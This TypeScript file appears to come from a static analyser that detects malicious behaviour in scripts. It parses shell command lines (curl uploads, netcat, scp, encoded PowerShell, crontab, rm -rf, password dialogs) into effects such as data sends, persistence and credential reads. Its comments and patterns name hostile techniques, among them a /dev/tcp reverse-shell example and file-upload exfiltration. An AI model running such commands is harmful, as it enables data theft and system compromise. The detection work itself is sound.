/**
 * Command lines a script hands to a shell or a process (`subprocess.run("curl -F f=@/tmp/b.zip …")`,
 * `Start-Process`, Ruby backticks): the few commands that move data or change the machine, lowered to the
 * same effects as the script's own calls. This is not a shell parser; it reads one folded command string.
 */
import { classifyWriteLocation, credentialStoreOf, destroysRecovery, keyFolderOf, namesPlatform, persistenceOf } from '../effects/classify.js';
import { agentCliOf, lowerShell, pingPattern, setsUserHooks } from '../effects/shell.js';
import { scheduledCommands } from '../effects/tool-configs.js';
import { type Emitter, type Val, carry, dnsExfilDomain, fileKey, hostOfVal, lit, normPath, registerScheduledLowerer, secretOfPath, val } from './values.js';

const INTERPRETER = /^(?:(?:\/usr)?(?:\/local)?\/bin\/)?(?:ba|z|da|k)?sh$|^python[23]?(?:\.\d+)?(?:\.exe)?$|^(?:pwsh|powershell)(?:\.exe)?$|^ruby$|^perl$|^node$|^cmd(?:\.exe)?$/i;

/** Split argv-ish text: quotes respected, no expansion. */
export function splitWords(s: string): string[] {
  // a word is quoted and bare parts side by side, as a shell reads it (`GIT_SSH_COMMAND='ssh -o X=no'` is one)
  const out: string[] = [];
  for (const m of s.matchAll(/(?:"(?:[^"\\]|\\.)*"|'[^']*'|[^\s"']+|["'])+/g)) out.push(m[0].replace(/"((?:[^"\\]|\\.)*)"|'([^']*)'/g, (_q, a: string | undefined, b: string | undefined) => a ?? b ?? ''));
  return out;
}

/** Split a command line into pipelines of simple commands (`a | b; c && d`). */
function pipelines(s: string): string[][] {
  const out: string[][] = [];
  let cur: string[] = [];
  let buf = '';
  let q: string | undefined;
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (q) {
      buf += c;
      if (c === q) q = undefined;
      continue;
    }
    if (c === '"' || c === "'") {
      q = c;
      buf += c;
      continue;
    }
    if (c === '|' && s[i + 1] !== '|') {
      cur.push(buf);
      buf = '';
      continue;
    }
    if (c === ';' || c === '\n' || (c === '&' && s[i + 1] === '&') || (c === '|' && s[i + 1] === '|')) {
      cur.push(buf);
      out.push(cur);
      cur = [];
      buf = '';
      if (s[i + 1] === '&' || s[i + 1] === '|') i++;
      continue;
    }
    buf += c;
  }
  cur.push(buf);
  out.push(cur);
  return out.map((p) => p.map(ungrouped).filter(Boolean)).filter((p) => p.length);
}

/**
 * A pipeline's segment without the subshell or group it opens or closes (`(curl -fsSL … `, `sh) >/dev/null`,
 * `{ curl …`): the command inside runs as written. A substitution's own parentheses (`$(whoami)`) are balanced and kept.
 */
function ungrouped(segment: string): string {
  let x = segment.trim();
  const count = (c: string): number => x.split(c).length - 1;
  if (/^[({]\s*/.test(x) && (x[0] === '{' || count('(') > count(')'))) x = x.replace(/^[({]\s*/, '');
  if (count(')') > count('(')) x = x.replace(/\s*\)(?=[^)]*$)/, '');
  return x.replace(/^\}\s*|\s*;?\s*\}$/g, '').trim();
}

const URL_IN = /\b(?:https?|ftp):\/\/[^\s"'`<>|;)]+/i;

/**
 * A script the lowered code wrote itself (Emitter.writtenScripts), run by `file`: its text is lowered in its language
 * (by extension; a shebang or none: shell) as running here. Once per file and emitter.
 */
function runWrittenScript(em: Emitter, line: number, file: string | undefined): boolean {
  if (!file) return false;
  const key = normPath(file.replace(/^["']|["']$/g, ''));
  const text = em.writtenScripts.get(key);
  if (!text?.s) return false;
  em.writtenScripts.delete(key);
  const lang = /\.ps[m]?1$/i.test(key) ? 'powershell' : /\.py$/i.test(key) || /^#!.*python/.test(text.s) ? 'python' : /\.rb$/i.test(key) ? 'ruby' : /\.(?:c|m)?js$/i.test(key) ? undefined : 'shell';
  if (lang === 'shell') lowerCommand(em, line, text);
  else if (lang) em.relower(lang, text.s, em, line);
  return true;
}

/** What a schedule or start-up file starts (scheduledCommands), lowered as commands run. */
export function lowerScheduled(em: Emitter, line: number, data: Val): void {
  if (!data.s) return;
  // a shell script (a git hook, a login script): lowered as one, its variables and quoted lines whole
  if (/^#!\s*\S*\b(?:sh|bash|zsh|dash)\b/.test(data.s)) {
    for (const e of lowerShell(data.s, { file: em.file, firstLine: line, reach: em.reach, scope: `${em.file}:started:${line}`, lang: em.lang, decoded: em.decodedDepth > 0 })) em.effects.push({ ...e, line });
    return;
  }
  for (const c of scheduledCommands(data.s)) lowerCommand(em, line, { ...carry(data), s: c, exact: data.exact });
}
registerScheduledLowerer(lowerScheduled);

/**
 * Lower a command line. `input` is the value the command line was folded from (its keys flow into sends);
 * `origin` how the text itself came to be (a downloaded or decoded command). Returns what the command prints
 * that matters to the caller's data flow: the stored credentials it reads (`security find-generic-password -w`),
 * so `out = check_output([...])` carries them; undefined otherwise.
 */
export function lowerCommand(em: Emitter, line: number, cmd: Val): Val | undefined {
  const text = cmd.s;
  if (!text) return undefined;
  const base = carry(cmd);
  // (bash's network redirections, `bash -i >& /dev/tcp/HOST/PORT 0>&1`, are the shell's: its lowering reads them)
  if (/\/dev\/(?:tcp|udp)\//.test(text)) {
    for (const e of lowerShell(text, { file: em.file, firstLine: line, reach: em.reach, scope: `${em.file}:started:${line}`, lang: em.lang, decoded: em.decodedDepth > 0 || cmd.origin === 'decoded' })) em.effects.push({ ...e, line, consumes: [...new Set([...(e.consumes ?? []), ...base.keys])] });
    return undefined;
  }
  const stored: Val[] = [];
  for (const pipe of pipelines(text.length > 20000 ? text.slice(0, 20000) : text)) {
    let prev: Val | undefined;
    pipe.forEach((segment, i) => {
      prev = lowerSimple(em, line, segment, base, prev, i > 0, text, stored);
    });
  }
  return stored.length ? carry(...stored) : undefined;
}

function stripPrefixes(words: string[]): { words: string[]; sudo: boolean; hidden: boolean } {
  let sudo = false;
  let hidden = false;
  while (words.length) {
    const w = words[0];
    if (/^(?:sudo|doas|pkexec)$/.test(w)) {
      sudo = true;
      words = words.slice(1).filter((x, i) => !(i === 0 && x.startsWith('-')));
    } else if (/^(?:nohup|setsid|disown)$/.test(w)) {
      hidden = true;
      words = words.slice(1);
    } else if (/^(?:env|exec|time|nice|command)$/.test(w) || /^\w+=/.test(w)) words = words.slice(1);
    else break;
  }
  return { words, sudo, hidden };
}

function lowerSimple(em: Emitter, line: number, segment: string, base: Val, stdin: Val | undefined, piped: boolean, whole: string, stored: Val[]): Val | undefined {
  segment = segment.replace(/^\(+\s*/, '').replace(/\s*\)+$/, '');
  const background = /&\s*$/.test(segment) && !/&&\s*$/.test(segment);
  const stripped = stripPrefixes(splitWords(segment.replace(/&\s*$/, '').replace(/\s[12]?>&?\s*\S+/g, ' ')));
  const words = stripped.words;
  if (!words.length) return undefined;
  const name = (words[0].split(/[\\/]/).pop() ?? '').toLowerCase();
  const args = words.slice(1);
  const ev = segment;
  if (stripped.sudo) em.emit('escalate', line, ev, { command: segment.slice(0, 200) }, [base]);
  if (stripped.hidden || (background && /nohup|setsid|disown/.test(whole))) em.emit('spawn-hidden', line, ev, { command: segment.slice(0, 200) }, [base]);
  const inputs = stdin ? [base, stdin] : [base];
  if (destroysRecovery(name, args)) em.emit('destroy', line, ev, { path: segment.slice(0, 120), location: 'system' }, inputs);

  // an interpreter fed from a pipe runs what flowed in
  if (INTERPRETER.test(name) && piped && stdin) {
    em.exec(line, ev, { ...carry(stdin), s: stdin.s ?? segment, exact: false }, stdin.origin ?? 'computed');
    return undefined;
  }
  if (/^(?:iex|invoke-expression)$/.test(name) && stdin) {
    em.exec(line, ev, { ...carry(stdin), s: stdin.s ?? segment }, stdin.origin ?? 'computed');
    return undefined;
  }
  // `Invoke-Expression "<code>"` handed its code as an argument: the code, run as PowerShell
  if (/^(?:iex|invoke-expression)$/.test(name) && args.length) {
    const code = segment.replace(/^\s*\S+\s+(?:-command\s+)?/i, '').replace(/^(["'])([\s\S]*)\1$/, '$2');
    if (code.trim()) em.relower('powershell', code, em, line);
    return undefined;
  }
  // inline code: python -c, bash -c, powershell -enc / -command
  if (INTERPRETER.test(name)) {
    const flagIdx = args.findIndex((a) => /^-(?:c|command|e|ec|enc|encodedcommand)$/i.test(a));
    if (flagIdx >= 0 && args[flagIdx + 1] !== undefined) {
      const code = args.slice(flagIdx + 1).join(' ');
      const flag = args[flagIdx].toLowerCase();
      if (/^(?:pwsh|powershell)/.test(name)) {
        if (/^-(?:e|ec|enc|encodedcommand)$/.test(flag)) {
          // (an argument the script encoded at run time, of its own readable text, is how quotes pass through `Start-Process
          // -Verb RunAs` or a scheduled task's arguments: hidden only where what was encoded had been decoded; what it
          // says is read either way)
          const encodedHere = base.origin !== 'decoded' && em.effects.some((e) => e.kind === 'encode' && e.produces?.some((k) => base.keys.includes(k)));
          const d = decodePsEncoded(args[flagIdx + 1]);
          if (d) {
            em.exec(line, ev, { ...carry(base), s: d, exact: true, ...(encodedHere ? {} : { origin: 'decoded' as const }) }, encodedHere ? 'computed' : 'decoded');
            if (!encodedHere) em.decodedDepth++;
            try {
              em.relower('powershell', d, em, line);
            } finally {
              if (!encodedHere) em.decodedDepth--;
            }
          } else em.exec(line, ev, { ...carry(base), s: code, ...(encodedHere ? {} : { origin: 'decoded' as const }) }, encodedHere ? 'computed' : 'decoded');
        } else em.relower('powershell', code, em, line);
      } else if (/^python/.test(name)) em.relower('python', code, em, line);
      else if (/^ruby$/.test(name)) em.relower('ruby', code, em, line);
      else if (/sh$/.test(name)) lowerCommand(em, line, { ...carry(base), s: code, exact: base.exact });
      return undefined;
    }
    runWrittenScript(em, line, args.find((a, i) => !a.startsWith('-') && !/^-(?:executionpolicy|windowstyle|ep|w)$/i.test(args[i - 1] ?? '')));
    return undefined;
  }
  // a script this one wrote, run by its path (`~/.cache/x/tick`), or by an interpreter the script computed (`${sys.executable} ~/.x/run.py`)
  if (runWrittenScript(em, line, words[0]) || (/^\$\{[^}]*\}$/.test(words[0]) && runWrittenScript(em, line, args.find((a) => !a.startsWith('-'))))) return undefined;
  // an AI coding agent: its prompt is text its model follows with the user's tools, unasked where its switches say so
  const agent = agentCliOf(name, args);
  if (agent) {
    if (agent.unattended) em.emit('instruct', line, ev, { instruct: 'auto-approve' }, inputs);
    if (agent.prompt) em.relower('prose', agent.prompt, em, line);
  }
  // a password dialog the package ships as a script (`osascript assets/auth.applescript "…"`, whose `display dialog …
  // with hidden answer` returns what the user types): what it prints is the user's password, asked in a dialog of its own
  if (name === 'osascript' && em.modules) {
    const file = args.find((a) => /\.(?:applescript|scpt|js)$/i.test(a));
    const base = file ? file.split(/[\\/]/).pop()!.toLowerCase() : undefined;
    const shipped = base ? em.modules.list?.().find((f) => f.toLowerCase().endsWith(`/${base}`) || f.toLowerCase() === base) : undefined;
    const text = shipped ? em.modules.text(shipped) : undefined;
    if (text && /\bdisplay\s+dialog\b[\s\S]{0,400}?\bhidden\s+answer\b/i.test(text)) {
      em.emit('instruct', line, ev, { instruct: 'phish' }, inputs);
      const r = em.read(line, ev, 'user-credentials', { path: segment.slice(0, 120) }, inputs);
      stored.push(r);
      return r;
    }
  }
  // a credential helper or OS credential store printing a stored secret (git credential fill, security, secret-tool, cmdkey)
  const store = credentialStoreOf([name, ...args]);
  if (store) {
    const r = em.read(line, ev, store, { path: segment.slice(0, 120) }, inputs);
    stored.push(r);
    return r;
  }
  // Windows' programs that run what they are handed (mshta, regsvr32 /i:, msiexec, rundll32, wscript, cscript, wmic
  // process call create): read as the shell lowering reads them (shell.ts), one mechanism for both.
  if (/^(?:mshta|regsvr32|msiexec|rundll32|wscript|cscript|wmic)(?:\.exe)?$/.test(name)) {
    const at = em.pinnedLine ?? line;
    for (const e of lowerShell(segment, { file: em.file, firstLine: at, reach: em.reach, scope: `${em.file}:lolbin:${at}`, lang: em.lang, decoded: em.decodedDepth > 0 })) em.effects.push({ ...e, line: at, consumes: [...new Set([...(e.consumes ?? []), ...base.keys])] });
    return undefined;
  }
  switch (name) {
    case 'git': {
      // `git remote add NAME URL` then `git push … NAME`: the repository goes to URL (a push to a literal URL too)
      const words = args.filter((a) => !a.startsWith('-'));
      if (words[0] === 'remote' && words[1] === 'add' && words[2] && words[3]) em.gitRemotes.set(words[2], { ...carry(base), s: words[3], exact: base.exact });
      if (words[0] === 'push') {
        const dest = words.slice(1).map((w) => em.gitRemotes.get(w) ?? (/:\/\/|^[\w.-]+@[\w.-]+:/.test(w) ? lit(w) : undefined)).find(Boolean);
        if (dest) {
          const t = hostOfVal(dest.s !== undefined ? lit(dest.s.replace(/^[\w.-]+@([\w.-]+):.*/, 'https://$1/')) : dest);
          em.emit('send', line, ev, { host: t.host, hostClass: t.hostClass, channel: 'git', carries: args.some((a) => /^--(?:mirror|all)$/.test(a)) ? ['user-files'] : undefined }, [dest, ...inputs]);
        }
      }
      // `git config --global core.hooksPath DIR`: the user's hooks folder, as the shell's lowering reads it
      if (setsUserHooks(args))
        em.emit('persist', line, ev, { mechanism: 'git-hook' }, inputs);
      return undefined;
    }
    case 'curl':
    case 'wget':
    case 'iwr':
    case 'irm':
    case 'invoke-webrequest':
    case 'invoke-restmethod':
      return lowerDownloader(em, line, name, args, inputs, segment);
    case 'scp':
    case 'rsync':
    case 'sftp': {
      const remote = args.find((a) => /^[^\s/:]*@?[\w.-]+:/.test(a) && !/^[a-z]+:\/\//i.test(a) && !/^-/.test(a));
      if (!remote) return undefined;
      const locals = args.filter((a) => a !== remote && !a.startsWith('-'));
      const consumes = locals.map(fileKey);
      for (const l of locals) readIfSecret(em, line, l, ev);
      const secrets = locals.map(secretOfPath).filter((x): x is NonNullable<typeof x> => !!x);
      const target = hostOfVal(lit(remote.replace(/:.*$/, '')));
      em.emit('send', line, ev, { host: target.host, hostClass: target.hostClass, channel: 'scp', consumes, carries: secrets.length ? secrets : undefined }, inputs);
      return undefined;
    }
    case 'nc':
    case 'ncat':
    case 'netcat':
    case 'socat': {
      const host = args.find((a) => !a.startsWith('-') && /[a-z.]/i.test(a) && !/^\d+$/.test(a));
      if (!host) return undefined;
      const redirect = /<\s*(\S+)/.exec(segment)?.[1];
      if (redirect) readIfSecret(em, line, redirect, ev);
      const t = hostOfVal(lit(host));
      em.emit('send', line, ev, { host: t.host, hostClass: t.hostClass, channel: 'socket', consumes: redirect ? [fileKey(redirect)] : undefined }, inputs);
      return undefined;
    }
    case 'ping': {
      // an echo request's padding computed from what the command carries (pingPattern)
      const echo = pingPattern(args);
      if (!echo || (!/\$\{|\$\(/.test(echo.pattern) && !base.secrets.length)) return undefined;
      const t = hostOfVal(echo.target ? lit(echo.target) : undefined);
      em.emit('send', line, ev, { host: t.host, hostClass: t.hostClass, channel: 'icmp' }, inputs);
      return undefined;
    }
    case 'nslookup':
    case 'dig':
    case 'host': {
      // a name with computed labels under a fixed zone tells the zone's owner what the labels hold
      const q = args.find((a) => !a.startsWith('-') && !a.startsWith('@') && !a.startsWith('+'));
      const zone = q && /\$\{|\$\(/.test(q) ? dnsExfilDomain({ ...base, s: q.replace(/\$\(([^)]*)\)/g, '${$1}') }) : undefined;
      if (zone) {
        const t = hostOfVal(lit(zone));
        em.emit('send', line, ev, { host: t.host, hostClass: t.hostClass, channel: 'dns' }, inputs);
      }
      return undefined;
    }
    case 'cat':
    case 'type':
    case 'get-content':
    case 'gc': {
      let out: Val | undefined;
      for (const a of args.filter((x) => !x.startsWith('-'))) {
        const r = readIfSecret(em, line, a, ev);
        out = carry(out, r ?? val({ keys: [fileKey(a)] }));
      }
      return out;
    }
    case 'base64':
    case 'xxd':
    case 'gzip':
    case 'openssl': {
      if (args.some((a) => /^(?:-d|-D|--decode|-r)$/.test(a))) return { ...carry(stdin ?? base), origin: 'decoded' };
      return em.emit('encode', line, ev, {}, inputs).result;
    }
    case 'cp':
    case 'copy':
    case 'copy-item':
    case 'mv':
    case 'move-item': {
      const files = args.filter((a) => !a.startsWith('-'));
      if (files.length < 2) return undefined;
      const dst = files[files.length - 1];
      const srcs = files.slice(0, -1);
      const rs = srcs.map((s) => readIfSecret(em, line, s, ev));
      em.emit('collect', line, ev, { path: dst, consumes: srcs.map(fileKey) }, [...inputs, ...rs.filter((r): r is Val => !!r)], [fileKey(dst)]);
      writeAt(em, line, dst, ev, inputs);
      return undefined;
    }
    case 'tar':
    case 'zip':
    case '7z':
    case 'compress-archive': {
      const files = args.filter((a) => !a.startsWith('-') && !/^[a-z]*[cxz]+[a-z]*f?$/.test(a) || /\.(?:zip|tgz|tar|gz|7z|xz|bz2)$/i.test(a));
      let archive = files.find((a) => /\.(?:zip|tgz|tar|gz|7z|xz|bz2)$/i.test(a));
      const fIdx = args.findIndex((a) => /^-[a-z]*f$/i.test(a) && name === 'tar');
      if (fIdx >= 0 && args[fIdx + 1]) archive = args[fIdx + 1];
      if (!archive || (name === 'tar' && /x/.test(args[0] ?? '') && !/c/.test(args[0] ?? ''))) return undefined;
      const srcs = files.filter((a) => a !== archive && !/^a$/.test(a));
      const rs = srcs.map((s) => readIfSecret(em, line, s, ev)).filter((r): r is Val => !!r);
      em.emit('archive', line, ev, { path: archive, consumes: srcs.map(fileKey) }, [...inputs, ...rs], [fileKey(archive)]);
      return undefined;
    }
    case 'crontab':
    case 'launchctl':
    case 'systemctl':
    case 'schtasks':
    case 'schtasks.exe':
    case 'reg':
    case 'reg.exe': {
      const mech = persistenceOf(segment) ?? (name === 'crontab' ? 'cron' : undefined);
      // (`crontab -l` lists the schedule, as the shell's lowering reads it too)
      if (mech && !(name === 'crontab' && args[0] === '-l')) em.emit('persist', line, ev, { mechanism: mech }, inputs);
      return undefined;
    }
    case 'chmod':
      if (args.some((a) => /^(?:[ugoa]*\+[a-z]*s|[2467][0-7]{3})$/.test(a))) em.emit('escalate', line, ev, { command: segment.slice(0, 200) }, inputs);
      return undefined;
    case 'setcap':
    case 'chown':
      if (name === 'setcap' || args.some((a) => /^root\b/.test(a))) em.emit('escalate', line, ev, { command: segment.slice(0, 200) }, inputs);
      return undefined;
    case 'rm':
    case 'remove-item':
    case 'del': {
      const targets = args.filter((a) => !a.startsWith('-'));
      const keys = targets.map(keyFolderOf).find(Boolean);
      if (args.some((a) => /^-[a-z]*r[a-z]*f|^-[a-z]*f[a-z]*r|--no-preserve-root|^-recurse$/i.test(a)) && (keys || targets.some((t) => /^(?:\/\*?|~\/?\*?|\$\{?HOME\}?\/?\*?|\/home\/?\*?|\/Users\/?\*?|[A-Za-z]:\\?\*?|\$env:USERPROFILE\\?\*?)$/i.test(t)))) em.emit('destroy', line, ev, { path: targets.join(' '), ...(keys ? { secret: keys } : {}) }, inputs);
      if (targets.some((t) => /^\$\{?0\}?$|\$\{?BASH_SOURCE|\$\{__file__\}|MyInvocation|PSCommandPath/.test(t))) em.emit('self-delete', line, ev, {}, inputs);
      return undefined;
    }
    case 'mkfs':
    case 'dd':
    case 'shred':
    case 'wipefs':
    case 'format':
      if (/of=\/dev\/[sh]d|\/dev\/(?:sd|nvme|disk)|^format$/.test(name + ' ' + args.join(' '))) em.emit('destroy', line, ev, { path: args.join(' ').slice(0, 100) }, inputs);
      return undefined;
    case 'pip':
    case 'pip3':
    case 'npm':
    case 'pnpm':
    case 'yarn':
    case 'bun':
    case 'gem':
    case 'brew':
    case 'cargo':
    case 'go':
    case 'pipx':
    case 'uv': {
      // installing a tool: a prerequisite, named after the platform or not, from a registry or elsewhere
      const verbIdx = args.findIndex((a) => /^(?:install|i|add|get)$/.test(a));
      if (verbIdx < 0) return undefined;
      const names = args.slice(verbIdx + 1).filter((a) => !a.startsWith('-') && !/^(?:pip|install)$/.test(a));
      for (const nm of names.slice(0, 5)) {
        const url = /^(?:git\+)?(https?:\/\/\S+)/.exec(nm)?.[1];
        const source = url ? hostOfVal(lit(url)) : { host: REGISTRY_OF[name] ?? 'registry', hostClass: 'registry' as const };
        em.emit('prerequisite', line, ev, { name: nm.slice(0, 120), host: source.host, hostClass: source.hostClass, url, impersonates: namesPlatform(nm) }, inputs);
      }
      return undefined;
    }
    case 'set-mppreference':
    case 'add-mppreference':
      em.emit('escalate', line, ev, { command: segment.slice(0, 200) }, inputs);
      return undefined;
    default:
      return undefined;
  }
}

const REGISTRY_OF: Record<string, string> = { pip: 'pypi.org', pip3: 'pypi.org', pipx: 'pypi.org', uv: 'pypi.org', npm: 'registry.npmjs.org', pnpm: 'registry.npmjs.org', yarn: 'registry.npmjs.org', bun: 'registry.npmjs.org', gem: 'rubygems.org', cargo: 'crates.io', go: 'proxy.golang.org', brew: 'brew.sh' };

function decodePsEncoded(s: string): string | undefined {
  const b = Buffer.from(s.replace(/\s+/g, ''), 'base64');
  const t = b.toString('utf16le');
  return t && /^[\x09\x0a\x0d\x20-\x7e]+$/.test(t.slice(0, 200)) ? t : undefined;
}

function readIfSecret(em: Emitter, line: number, p: string, ev: string): Val | undefined {
  const cls = secretOfPath(p);
  if (!cls) return undefined;
  const r = em.read(line, ev, cls, { path: p });
  r.keys.push(fileKey(p));
  return r;
}

function writeAt(em: Emitter, line: number, p: string, ev: string, inputs: Val[]): void {
  const location = classifyWriteLocation(p);
  em.emit('write', line, ev, { location, path: p }, inputs, [fileKey(p)]);
  const mech = persistenceOf(p);
  if (mech) em.emit('persist', line, ev, { mechanism: mech, path: p }, inputs);
}

function lowerDownloader(em: Emitter, line: number, name: string, args: string[], inputs: Val[], segment: string): Val | undefined {
  const url = args.find((a) => URL_IN.test(a) && !a.startsWith('-')) ?? args.find((a) => !a.startsWith('-') && /^[\w.-]+\.[a-z]{2,}(?:[:/]|$)|^(?:\d{1,3}\.){3}\d{1,3}/i.test(a));
  if (!url) return undefined;
  const target = hostOfVal(lit(url));
  const uploads: string[] = [];
  let sends = false;
  for (let i = 0; i < args.length; i++) {
    const a = args[i];
    const next = args[i + 1] ?? '';
    if (/^(?:-F|--form)$/.test(a)) {
      sends = true;
      const at = /@([^;\s]+)/.exec(next)?.[1];
      if (at) uploads.push(at);
    } else if (/^(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|--json|-infile|-body)$/i.test(a)) {
      sends = true;
      const at = /^@?([^\s]+)/.exec(next);
      if (next.startsWith('@') && at) uploads.push(at[1]);
      if (/^-infile$/i.test(a)) uploads.push(next);
    } else if (/^(?:-T|--upload-file|--post-file(?:=.*)?)$/.test(a) || /^--post-file=/.test(a)) {
      sends = true;
      uploads.push(a.includes('=') ? a.split('=')[1] : next);
    } else if (/^--post-data(?:=|$)/.test(a)) sends = true;
    else if (/^-(?:X|method)$/i.test(a) && /^(?:POST|PUT|PATCH)$/i.test(next)) sends = true;
    else if (/^(?:-H|--header)$/.test(a) && /\$\{/.test(next)) sends = true;
  }
  if (/\$\{|\$\(/.test(url) && /[?&=]/.test(url)) sends = true;
  const reads = uploads.map((u) => readIfSecret(em, line, u, segment)).filter((r): r is Val => !!r);
  if (sends) {
    em.emit('send', line, segment, { host: target.host, hostClass: target.hostClass, url: target.url, channel: 'http', consumes: uploads.map(fileKey) }, [...inputs, ...reads]);
  }
  const out = args.findIndex((a) => /^(?:-o|--output|-O|--output-document|-outfile)$/i.test(a));
  const produces = out >= 0 && args[out + 1] ? [fileKey(args[out + 1])] : [];
  const { result } = em.emit('fetch', line, segment, { host: target.host, hostClass: target.hostClass, url: target.url }, [], produces);
  if (produces.length) {
    const dst = args[out + 1];
    const location = classifyWriteLocation(dst);
    em.emit('write', line, segment, { location, path: dst }, [result], produces);
  }
  return result;
}
